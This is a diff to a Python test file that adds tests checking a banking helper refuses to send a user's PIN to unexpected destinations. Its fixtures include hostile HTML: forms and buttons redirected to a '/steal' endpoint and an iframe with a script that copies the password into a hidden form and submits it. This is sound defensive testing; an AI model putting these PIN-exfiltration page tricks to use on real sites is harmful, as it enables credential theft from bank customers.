@@ -20,6 +20,7 @@ from certhelper.demo.customers import DEMO_PIN
 pytestmark = not_under_wine("WebEngine never loads a page there")
 
 WRONG = "9999"
+REFUSED = "pin-target-unexpected"
 
 
 @pytest.fixture
@@ -142,6 +143,51 @@ def test_another_attempt_in_the_same_window_starts_from_nothing(
         assert [seen.body for seen in bank.pins] == [f"p={PIN}"]
 
 
+def types_in_a_page_that_is_not_known(person: Person) -> Play:
+    """The PIN leaves in the page's own form, as whoever does not read the banner would send it."""
+    yield lambda: any(report.code == "unknown-page" for report in person.reports)
+    yield from person.script(
+        f"document.querySelector('input[type=password]').value = '{PIN}';"
+        "document.querySelector('button').click()"
+    )
+    yield lambda: person.reports[-1].stage == "top-page" or person.reports[-1].code == REFUSED
+    return [report.code or report.stage.value for report in person.reports][-1]
+
+
+UNMARKED = pin_page().replace("CIBMU209", "CIBMU999")
+STRAYING = UNMARKED.replace("action=/pin", "action={front}/steal")
+FRAMED = (
+    f"CIBMU999 <iframe srcdoc='{STRAYING}'></iframe><input type=password hidden>"
+    "<button onclick='const inner = frames[0].document; inner.forms[0].p.value = "
+    'document.querySelector("input").value; inner.querySelector("button").click()\'>'
+)
+
+
+@pytest.mark.parametrize(
+    ("page", "end"),
+    [
+        (UNMARKED, "top-page"),
+        (STRAYING, REFUSED),
+        (STRAYING * 2, REFUSED),
+        (
+            UNMARKED.replace("<button>", "<button formaction={front}/steal>"),
+            REFUSED,
+        ),
+        (FRAMED, REFUSED),
+    ],
+    ids=["as agreed", "elsewhere", "two fields", "elsewhere by its button", "in a frame"],
+)
+def test_a_pin_in_a_page_that_is_not_known_goes_as_agreed_or_nowhere(
+    tmp_path: Path, page: str, end: str
+) -> None:
+    """A PIN page with another marker, after the certificate: what the person sends is held."""
+    with ScriptedBank(tmp_path, {"GET logon/pin": page}) as bank:
+        play_ = types_in_a_page_that_is_not_known
+        assert play(bank.bank, bank.database, bank.sha256, play_, pin=PIN) == end
+        arrived = [(seen.site, seen.path) for seen in bank.pins]
+        assert arrived == ([("logon", "/pin")] if end == "top-page" else [])
+
+
 def types_in_the_page(person: Person) -> Play:
     yield from person.stage("pin-page")
     person.start_script(
@@ -149,9 +195,6 @@ def types_in_the_page(person: Person) -> Play:
     )
     yield lambda: stages(person)[-1] in ("top-page", "failed")
     return [report.code or report.stage.value for report in person.reports][-1]
-
-
-REFUSED = "pin-target-unexpected"
 
 
 @pytest.mark.parametrize(
